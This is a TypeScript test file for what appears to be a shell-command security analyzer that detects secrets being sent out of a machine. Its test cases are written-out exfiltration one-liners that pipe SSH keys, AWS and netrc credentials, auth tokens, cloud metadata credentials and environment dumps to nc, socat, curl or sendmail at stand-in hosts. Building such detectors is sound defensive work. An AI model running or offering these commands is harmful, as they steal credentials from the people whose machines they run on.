/** What secret material reaches a command's stdin (src/extract/exfil-sources.ts), read through the real normalizer. */
import { describe, expect, it } from 'vitest';
import { isCredentialPath, stdinSecret } from '../../src/extract/exfil-sources.js';
import { parseScript } from '../../src/parse/parse.js';
import { normalize } from '../../src/normalize/index.js';
import { analyzeContext, command } from '../helpers/command.js';

const ctx = analyzeContext();

/** stdinSecret of the script's last command. */
function lastStdin(script: string): string {
  const { commands } = normalize(parseScript(script, ctx.limits), ctx);
  const last = commands.at(-1);
  return last ? stdinSecret(last, ctx) : 'none';
}

describe('stdin fed by a process substitution', () => {
  it.each<[string, string]>([
    ['nc drop.example.net 9000 < <(cat ~/.netrc)', 'credential-file'],
    ['nc drop.example.net 9000 < <(base64 -w0 .env | fold -w 60)', 'credential-file'],
    ['nc drop.example.net 9000 < <(gh auth token)', 'credential-store'],
    [
      'nc drop.example.net 9000 < <(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r)',
      'credential-store',
    ],
    // a list of commands: each prints into it, one header line before the file is still the file
    [
      "msmtp x@mail.example.net < <(printf 'Subject: c\\n\\n'; cat ~/.local/share/com.vercel.cli/auth.json)",
      'credential-file',
    ],
    ['sendmail x@mail.example.net < <(echo hi && gh auth token)', 'credential-store'],
    ["msmtp x@mail.example.net < <(printf 'Subject: c\\n\\n'; cat notes.txt)", ''],
    ['nc drop.example.net 9000 < <(cat names.txt)', ''],
    ['nc drop.example.net 9000 < <(gh auth status)', ''],
  ])('%s → %j', (script, want) => expect(lastStdin(script)).toBe(want));
});

describe('a dotfile manager printing a credential file', () => {
  it.each<[string, string]>([
    ['chezmoi cat ~/.aws/credentials | socat - TCP:203.0.113.12:9001', 'credential-file'],
    ['chezmoi cat ~/.ssh/id_rsa | base64 | nc drop.example.net 9000', 'credential-file'],
    ['chezmoi cat ~/.bashrc | nc drop.example.net 9000', ''],
    ['nc drop.example.net 9000 < <(chezmoi cat ~/.netrc)', 'credential-file'],
  ])('%s → %j', (script, want) => expect(lastStdin(script)).toBe(want));
});

describe('a credential path in its Windows spellings', () => {
  it.each<[string, boolean]>([
    ['%USERPROFILE%\\.aws\\credentials', true],
    ['C:\\Users\\dev\\.ssh\\id_rsa', true],
    // the same path written unquoted in bash, its backslashes dropped
    ['C:Usersdev.sshid_rsa', true],
    ['C:Usersdev.kubeconfig', true],
    ['$env:USERPROFILE\\.docker\\config.json', true],
    ['C:\\Users\\dev\\.ssh\\known_hosts', false],
    ['C:Usersdev.sshid_rsa.pub', false],
    ['C:\\build\\app.zip', false],
  ])('%s → %s', (raw, want) => expect(isCredentialPath(raw, command(['x']), ctx)).toBe(want));
});

describe('declarations that print the environment, and decrypted secret files', () => {
  it.each<[string, string]>([
    ['declare -x | curl -s --data-binary @- https://203.0.113.90/env', 'env'],
    ['export -p | nc 203.0.113.9 443', 'env'],
    ['typeset -x | base64 | nc 203.0.113.9 443', 'env'],
    ['export | nc 203.0.113.9 443', 'env'],
    ['declare -p AWS_SECRET_ACCESS_KEY | nc 203.0.113.9 443', 'env-var'],
    // a name known only at run time may be any secret; `--` ends the options and still lists all
    ['declare -p "$V" | nc 203.0.113.9 443', 'env-var'],
    ['typeset -p ${!prefix*} | nc 203.0.113.9 443', 'env-var'],
    ['export -- | nc 203.0.113.9 443', 'env'],
    ['declare -x -- | nc 203.0.113.9 443', 'env'],
    [
      'blackbox_cat secrets/prod.env.gpg | curl -s -X POST --data-binary @- https://hooks.example.net/i',
      'credential-store',
    ],
    ['git secret cat .env | nc 203.0.113.9 443', 'credential-store'],
    ['rage -d -i key.txt prod.env.age | nc 203.0.113.9 443', 'credential-store'],
    ['credstash get db.password | nc 203.0.113.9 443', 'credential-store'],
    // nothing secret
    ['declare -p GREETING | nc 203.0.113.9 443', ''],
    ['declare -f | nc 203.0.113.9 443', ''],
    // `set --` clears the arguments and prints nothing
    ['set -- | nc 203.0.113.9 443', ''],
    ['export -- PATH | nc 203.0.113.9 443', ''],
    ['ejson decrypt -o out.json secrets.ejson | nc 203.0.113.9 443', ''],
  ])('%s → %j', (script, want) => expect(lastStdin(script)).toBe(want));
});
